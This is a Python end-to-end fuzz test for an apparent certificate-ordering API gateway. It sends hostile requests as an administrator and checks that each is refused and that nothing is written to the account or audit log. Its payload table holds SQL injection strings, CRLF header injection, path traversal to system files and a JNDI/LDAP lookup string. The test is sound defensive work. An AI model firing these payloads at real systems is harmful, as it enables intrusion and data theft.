"""Hostile requests through the gateway: each refused with a 4xx problem, nothing written.

A table of requests no client should send — bodies over the size limit, JSON nested ten
thousand deep, bodies that are not JSON or not UTF-8, CSRs of megabytes or with
thousands of names, SQL and header injection in every list filter, path traversal in
ids — sent as an administrator of the development account (so they get past
authentication to the code that must refuse them). Each must be answered with the
status in the table, as ``application/problem+json`` when it is an error, and never
echo an injected header. Before and after, what the account holds is counted through
the API; the counts must not move, and the audit log must hold nothing from the hostile
client's address except a sentinel action done at the end (which shows the check sees
entries at all).
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
import requests
from chancery_shared.testing import wait_for
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from tests.conftest import PASSWORD, RunningStack
from tests.e2e.scenario import Api, expect, p256_csr

pytestmark = [pytest.mark.e2e, pytest.mark.fuzz]

HOSTILE_IP = "198.51.100.66"
MAX_BODY = 1024 * 1024  # CHANCERY_MAX_BODY_BYTES's default, and nginx's client_max_body_size
REFUSED = (400, 404, 405, 413, 415, 422)
INJECTIONS = ("' OR '1'='1", "'; DROP TABLE orders; --", "%' OR 1=1 --", "\") OR 1=1 --",
              "1 UNION SELECT password_hash FROM users --", "\r\nX-Injected: yes",
              "%0d%0aX-Injected: yes", "x\x00y", "../../../../etc/passwd", "*",
              "\\", "${jndi:ldap://198.51.100.1/a}", "é" * 300)
LIST_FILTERS = {  # every free-text or id filter of the list and search endpoints
    "/api/orders/v1/orders": ("status", "unit_id", "requester_id", "name", "product",
                              "cursor", "expiring_before", "issued_after", "issued_before"),
    "/api/orders/v1/orders.csv": ("status", "unit_id", "requester_id", "name", "product"),
    "/api/orders/v1/domains": ("status", "name", "cursor"),
    "/api/orders/v1/organizations": ("status", "cursor"),
    "/api/identity/v1/users": ("cursor", "limit"),
    "/api/identity/v1/units": ("cursor",),
    "/api/ledger/v1/deposits": ("status", "cursor"),
    "/api/ledger/v1/transactions": ("from", "to", "cursor"),
    "/api/ledger/v1/reports/spend": ("from", "to", "group_by"),
    "/api/ledger/v1/reports/transactions": ("from", "to"),
    "/api/audit/v1/entries": ("user_id", "from", "to", "action", "q", "target", "account_id",
                              "cursor"),
    "/api/audit/v1/entries.csv": ("user_id", "action", "q", "target", "account_id"),
    "/api/audit/v1/verify": ("account_id",),
}
# nginx refuses these itself (a NUL in the path, a path climbing above the root)
NGINX_REFUSES = ("/api/ledger/v1/invoices/%00", "/ca/issuers/..%2F..%2F..%2Fetc%2Fpasswd.crt")
COUNTED = ("/api/orders/v1/orders", "/api/orders/v1/domains", "/api/orders/v1/organizations",
           "/api/identity/v1/users", "/api/identity/v1/units", "/api/identity/v1/api-keys",
           "/api/ledger/v1/deposits", "/api/ledger/v1/transactions")


@dataclass
class Hostile:
    """One row: what is sent, and what must come back."""

    name: str
    method: str
    path: str
    expected: tuple[int, ...]
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)
    params: dict[str, str] | None = None
    distributed: tuple[int, ...] | None = None
    """The status when nginx and gunicorn are in the path, where it differs."""


def csr_with_names(count: int) -> str:
    key = ec.generate_private_key(ec.SECP256R1())
    names = [x509.DNSName(f"host{i}.example.com") for i in range(count)]
    return (x509.CertificateSigningRequestBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "www.example.com")]))
            .add_extension(x509.SubjectAlternativeName(names), critical=False)
            .sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM).decode())


def order_body(csr: str, sans: list[str] | None = None) -> bytes:
    """A DV order otherwise fine: what is wrong with it is the CSR or the names."""
    return json.dumps({"product": "ssl_dv", "term_years": 1, "server_type": "nginx",
                       "common_name": "www.example.com", "sans": sans or [],
                       "csr": csr}).encode()


def rows() -> list[Hostile]:
    """The table. Built once per test: the CSRs are generated."""
    json_type = {"Content-Type": "application/json"}
    huge_pem = ("-----BEGIN CERTIFICATE REQUEST-----\n" + "QUFB" * (3 * MAX_BODY // 4)
                + "\n-----END CERTIFICATE REQUEST-----\n")
    near_limit_pem = ("-----BEGIN CERTIFICATE REQUEST-----\n" + "QUFB" * (MAX_BODY // 8)
                      + "\n-----END CERTIFICATE REQUEST-----\n")
    deep = b"[" * 10_000 + b"]" * 10_000
    deep_object = b'{"a":' * 10_000 + b"1" + b"}" * 10_000
    valid_order = order_body(p256_csr("www.example.com"))
    table = [
        # size
        Hostile("oversized order", "POST", "/api/orders/v1/orders", (413,),
                b'{"notes": "' + b"a" * (MAX_BODY + 1024) + b'"}', json_type),
        Hostile("oversized sign-in", "POST", "/api/identity/v1/sessions", (413,),
                b'{"email": "' + b"a" * (2 * MAX_BODY) + b'"}', json_type),
        Hostile("oversized deposit", "POST", "/api/ledger/v1/deposits", (413,),
                b"[" + b"1," * MAX_BODY + b"1]", json_type),
        Hostile("huge CSR (3 MiB)", "POST", "/api/orders/v1/orders", (413,),
                order_body(huge_pem), json_type),
        Hostile("CSR over the CSR limit, body under the size limit", "POST",
                "/api/orders/v1/orders", (422,), order_body(near_limit_pem), json_type),
        Hostile("CSR with 3,000 names", "POST", "/api/orders/v1/orders", (413, 422),
                order_body(csr_with_names(3000)), json_type),
        Hostile("CSR with 1,000 names (under the size limits)", "POST",
                "/api/orders/v1/orders", (422,), order_body(csr_with_names(1000)), json_type),
        Hostile("order naming 5,000 SANs", "POST", "/api/orders/v1/orders", (422,),
                order_body(p256_csr("www.example.com"),
                           [f"h{i}.example.com" for i in range(5000)]), json_type),
        # shape
        Hostile("JSON nested 10,000 deep (arrays)", "POST", "/api/orders/v1/orders",
                (400, 422), deep, json_type),
        Hostile("JSON nested 10,000 deep (objects)", "POST", "/api/identity/v1/users",
                (400, 422), deep_object, json_type),
        Hostile("JSON nested 10,000 deep, sign-in", "POST", "/api/identity/v1/sessions",
                (400, 422), deep_object, json_type),
        Hostile("JSON nested 10,000 deep, PATCH", "PATCH",
                f"/api/orders/v1/orders/{uuid.uuid4()}", (400, 404, 422), deep, json_type),
        Hostile("JSON that is a string", "POST", "/api/orders/v1/domains", (400, 422),
                b'"example.com"', json_type),
        Hostile("JSON with a NaN", "POST", "/api/ledger/v1/deposits", (400, 422),
                b'{"method": "card", "amount_cents": NaN}', json_type),
        Hostile("JSON with a 5,000-digit number", "POST", "/api/ledger/v1/deposits",
                (400, 422), b'{"method": "card", "amount_cents": ' + b"9" * 5000 + b"}",
                json_type),
        Hostile("truncated JSON", "POST", "/api/orders/v1/orders", (400, 422),
                valid_order[:-20], json_type),
        # content types and encodings
        Hostile("order as text/plain", "POST", "/api/orders/v1/orders", (400, 415, 422),
                valid_order, {"Content-Type": "text/plain"}),
        Hostile("order as XML", "POST", "/api/orders/v1/orders", (400, 415, 422),
                b"<order><product>ssl_dv</product></order>",
                {"Content-Type": "application/xml"}),
        Hostile("order as a form", "POST", "/api/orders/v1/orders", (400, 415, 422),
                b"product=ssl_dv&term_years=1",
                {"Content-Type": "application/x-www-form-urlencoded"}),
        Hostile("order as multipart", "POST", "/api/orders/v1/orders", (400, 415, 422),
                b"--b\r\nContent-Disposition: form-data; name=\"csr\"\r\n\r\nx\r\n--b--\r\n",
                {"Content-Type": "multipart/form-data; boundary=b"}),
        Hostile("order without a content type", "POST", "/api/orders/v1/orders",
                (400, 415, 422), valid_order, {"Content-Type": ""}),
        # JSON is UTF-8 whatever the label says (RFC 8259 8.1): Latin-1 bytes are refused
        Hostile("Latin-1 JSON labelled as such", "POST", "/api/orders/v1/domains",
                (400, 415, 422), '{"name": "éxample.org", "method": "dns-txt"}'.encode(
                    "latin-1"), {"Content-Type": "application/json; charset=iso-8859-1"}),
        Hostile("invalid UTF-8 in JSON", "POST", "/api/orders/v1/domains", (400, 422),
                b'{"name": "\xff\xfe\xc3(", "method": "dns-txt"}', json_type),
        Hostile("invalid UTF-8 in a user", "POST", "/api/identity/v1/users", (400, 422),
                b'{"email": "a\xc0\xafb@example.com", "name": "\xed\xa0\x80", '
                b'"role": "limited", "unit_ids": [], "password": "x\xffxxxxxxxxxxx"}',
                json_type),
        Hostile("UTF-16 JSON", "POST", "/api/orders/v1/domains", (400, 415, 422),
                '{"name": "example.org", "method": "dns-txt"}'.encode("utf-16"), json_type),
        Hostile("NUL bytes in JSON strings", "POST", "/api/orders/v1/domains", (400, 422),
                b'{"name": "exa\\u0000mple.org", "method": "dns-txt"}', json_type),
        Hostile("NUL in an order's notes", "POST", "/api/orders/v1/orders", (400,),
                valid_order[:-1] + b', "notes": "a\\u0000b"}', json_type),
        Hostile("NUL in a new unit's name", "POST", "/api/identity/v1/units", (400,),
                b'{"name": "unit\\u0000"}', json_type),
        # path traversal in ids (NGINX_REFUSES: the gateway's own 400 problem)
        *[Hostile(f"traversal {path}", "GET", path, (400, 404),
                  distributed=(400,) if path in NGINX_REFUSES else None)
          for path in ("/api/orders/v1/orders/..%2F..%2F..%2Fetc%2Fpasswd",
                       "/api/orders/v1/orders/%2e%2e%2f%2e%2e%2fidentity%2fv1%2fusers",
                       "/api/orders/v1/domains/..%5C..%5Cwindows%5Cwin.ini",
                       "/api/identity/v1/users/%2E%2E",
                       "/api/ledger/v1/receipts/..%2f..%2f..%2fvar%2flib",
                       "/api/ledger/v1/invoices/%00",
                       "/api/audit/v1/entries/..%252f..%252fetc%252fpasswd",
                       "/ca/issuers/..%2F..%2F..%2Fetc%2Fpasswd.crt",
                       "/ca/crl/%2e%2e%2f%2e%2e%2fsecrets.crl")],
        # over gunicorn's default request line limit (4,094 bytes); the stack raises it to
        # 8,190, gunicorn's maximum, so it reads every line the gateway passes: a 404
        Hostile("a 5,000-character id", "GET", "/api/orders/v1/orders/" + "a" * 5000, (404,)),
        # over the gateway's 8 KiB line limits: its 414 and 400 problems; the embedded
        # server reads longer lines, and the service answers 404
        Hostile("a 9,000-character id", "GET", "/api/orders/v1/orders/" + "a" * 9000,
                (404,), distributed=(414,)),
        Hostile("a 9,000-byte header", "GET", f"/api/orders/v1/orders/{uuid.uuid4()}",
                (404,), headers={"X-Padding": "a" * 9000}, distributed=(400,)),
    ]
    for path, filters in LIST_FILTERS.items():
        for name in filters:
            for index, value in enumerate(INJECTIONS):
                table.append(Hostile(f"{path}?{name}= injection {index}", "GET", path,
                                     (200, 400, 404, 422), params={name: value}))
    return table


def count_everything(admin: Api) -> dict[str, int]:
    """How many of each thing the development account holds, page by page."""
    counts = {}
    for path in COUNTED:
        total, cursor = 0, None
        for _ in range(200):
            page = expect(admin.get(path, params={"limit": 100, **(
                {"cursor": cursor} if cursor else {})}), 200)
            total += len(page["items"])
            cursor = page.get("next_cursor")
            if not cursor:
                break
        counts[path] = total
    return counts


def send(base_url: str, token: str, row: Hostile) -> requests.Response:
    """The request as the row says it (ids arrive percent-encoded, as an attacker sends)."""
    session = requests.Session()
    request = requests.Request(row.method, base_url + row.path, params=row.params,
                               data=row.body, headers={
                                   "Authorization": f"Bearer {token}",
                                   "X-Forwarded-For": HOSTILE_IP, **row.headers})
    prepared = session.prepare_request(request)
    if row.headers.get("Content-Type") == "":
        prepared.headers.pop("Content-Type", None)
    try:
        return session.send(prepared, timeout=120)
    finally:
        session.close()


def problems_with(row: Hostile, response: requests.Response, mode: str) -> list[str]:
    found = []
    expected = row.distributed if mode == "distributed" and row.distributed else row.expected
    if response.status_code not in expected:
        found.append(f"status {response.status_code}, expected {expected}")
    if response.status_code >= 400:
        content_type = response.headers.get("Content-Type", "")
        if not content_type.startswith("application/problem+json"):
            found.append(f"content type {content_type!r}")
        else:
            body = response.json()
            if body.get("status") != response.status_code or not body.get("code"):
                found.append(f"problem body {body}")
    if any(name.lower().startswith("x-injected") for name in response.headers):
        found.append("an injected header came back")
    if response.status_code == 200 and row.params and "json" in response.headers.get(
            "Content-Type", "") and "items" in response.json():
        # an injected filter value matches nothing: it is compared, never executed
        if response.json()["items"]:
            found.append(f"{len(response.json()['items'])} items matched an injection")
    return found


@pytest.fixture
def admin(stack: RunningStack) -> Iterator[Api]:
    yield Api(stack.base_url).login("admin@example.com", PASSWORD)


def test_hostile_requests_are_refused_and_write_nothing(stack: RunningStack,
                                                       admin: Api) -> None:
    """Every row answered as the table says; the account's counts unchanged."""
    before = count_everything(admin)
    table = rows()
    failures = []
    for row in table:
        response = send(stack.base_url, admin.token or "", row)
        for problem in problems_with(row, response, stack.mode):
            failures.append(f"{row.name}: {row.method} {row.path} {row.params or ''} -> "
                            f"{problem}: {response.text[:200]!r}")
    print(f"\n{stack.mode}: {len(table)} hostile requests")
    assert not failures, "\n".join(failures)
    assert count_everything(admin) == before

    # nothing in the audit log from the hostile address but a sentinel done from it now
    sentinel = expect(admin.post("/api/identity/v1/units", {"name": f"sentinel-{uuid.uuid4()}"},
                                 headers={"X-Forwarded-For": HOSTILE_IP}), 201)

    def from_hostile_address() -> list[dict[str, Any]] | None:
        items = expect(admin.get("/api/audit/v1/entries", params={"limit": 500}), 200)["items"]
        mine = [e for e in items if e["ip"] == HOSTILE_IP]
        return mine if any(sentinel["id"] in (e.get("target") or "") for e in mine) else None

    entries = wait_for(from_hostile_address, timeout=60, message="the sentinel's audit entry")
    assert all(sentinel["id"] in (e.get("target") or "") for e in entries), entries
